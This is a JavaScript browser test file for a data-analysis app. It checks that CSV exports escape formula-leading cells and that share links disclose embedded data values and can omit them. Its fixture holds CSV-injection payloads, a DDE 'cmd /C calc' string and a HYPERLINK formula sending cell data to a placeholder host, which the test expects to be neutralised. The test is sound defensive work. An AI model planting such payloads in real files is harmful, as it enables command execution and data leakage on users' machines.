// Exports that cannot turn data into a formula, and links that say when they carry data (issue #11,
// finding 7): a CSV export neutralises text cells (and column names) that start with =, +, -, @, a tab or
// a carriage return; a link made from a definition that holds values from the data lists them where it is
// made, and can be made without them.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { inflateRawSync } from 'node:zlib';
import { dropFiles, engineReady, launchBrowser, openApp, runSql, startServer } from './harness.mjs';

let server;
let browser;
const ordersCsv = await readFile(new URL('../../sample-data/orders.csv', import.meta.url));

before(async () => {
  server = await startServer();
  browser = await launchBrowser();
});

after(async () => {
  await browser?.close();
  await server?.close();
});

/** The preset inside a link (#p=1.<base64url of deflated JSON>). */
function presetOf(link) {
  const payload = new URL(link).hash.replace(/^#p=1\./, '');
  return JSON.parse(inflateRawSync(Buffer.from(payload, 'base64url')).toString('utf8'));
}

describe('exports', () => {
  it('neutralise formula-leading text in CSV, and leave numbers alone', async () => {
    const app = await openApp(browser, server);
    const { page } = app;
    await engineReady(page);
    const csv = [
      'id,"=cmd|\' /C calc\'!A0",amount',
      '1,"=HYPERLINK(""http://example.invalid/?x="" & A1, ""click"")",-5',
      '2,+1+1,3',
      '3,-2,-7.5',
      '4,@SUM(A1:A2),0',
      '5,plain text,1',
    ].join('\n');
    await dropFiles(page, [{ name: 'cells.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) }]);
    await page.waitForSelector('[data-testid="table-item"]:has-text("cells")');
    await runSql(page, "SELECT * FROM cells UNION ALL SELECT 6, chr(9) || '=1+1', 2 ORDER BY id");
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.click('[data-testid="sql-export-csv"]'),
    ]);
    const lines = (await readFile(await download.path(), 'utf8')).trim().split('\n');
    assert.deepEqual(lines, [
      `id,"'=cmd|' /C calc'!A0",amount`,
      `1,"'=HYPERLINK(""http://example.invalid/?x="" & A1, ""click"")",-5`,
      `2,"'+1+1",3`,
      `3,"'-2",-7.5`,
      `4,"'@SUM(A1:A2)",0`,
      '5,plain text,1',
      `6,"'\t=1+1",2`,
    ]);
    app.assertClean();
    await app.context.close();
  });
});

describe('links with values from the data', () => {
  it('say so where they are made, and can leave the values out', async () => {
    const app = await openApp(browser, server);
    const { page, context } = app;
    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    await engineReady(page);
    await dropFiles(page, [{ name: 'orders.csv', mimeType: 'text/csv', buffer: ordersCsv }]);
    await page.waitForSelector('[data-testid="table-panel"]');
    await page.click('[data-testid="tab-analyses"]');
    // the mapping form ticks the statuses a store leaves out (refunded among them)
    await page.waitForSelector('[data-testid="exclude-value"][data-value="refunded"]:checked');
    await page.click('[data-testid="apply-mapping"]');
    await page.waitForSelector('[data-testid="chart-cohortHeatmap"] svg rect[data-index]', {
      timeout: 30_000,
    });
    await page.selectOption('[data-testid="param-segment"]', 'country');
    await page.waitForSelector('[data-testid="param-segment-value"]');
    await page.selectOption('[data-testid="param-segment-value"]', 'DE');
    await page.click('[data-testid="analysis-cohorts"] [data-testid="share"] summary');
    const note = page.locator('[data-testid="analysis-cohorts"] [data-testid="link-data-values"]');
    await note.waitFor();
    assert.match(await note.innerText(), /“DE”.*“refunded”|“refunded”.*“DE”/s);

    await page.click('[data-testid="analysis-cohorts"] [data-testid="copy-link"]');
    const linkInput = '[data-testid="analysis-cohorts"] [data-testid="preset-link"]';
    await page.waitForSelector(linkInput);
    const first = await page.inputValue(linkInput);
    const withValues = presetOf(first);
    assert.equal(withValues.segment.value, 'DE');
    assert.ok(withValues.mappings[0].filter.exclude.includes('refunded'));

    await page.check('[data-testid="analysis-cohorts"] [data-testid="leave-out-values"]');
    await page.click('[data-testid="analysis-cohorts"] [data-testid="copy-link"]');
    await page.waitForFunction(
      ([sel, old]) => document.querySelector(sel)?.value !== old,
      [linkInput, first],
    );
    const link = await page.inputValue(linkInput);
    const without = presetOf(link);
    assert.equal(without.segment.value, null);
    assert.equal(without.mappings[0].filter, undefined);
    assert.ok(!JSON.stringify(without).includes('refunded') && !JSON.stringify(without).includes('"DE"'));
    app.assertClean();
    await app.context.close();
  });
});
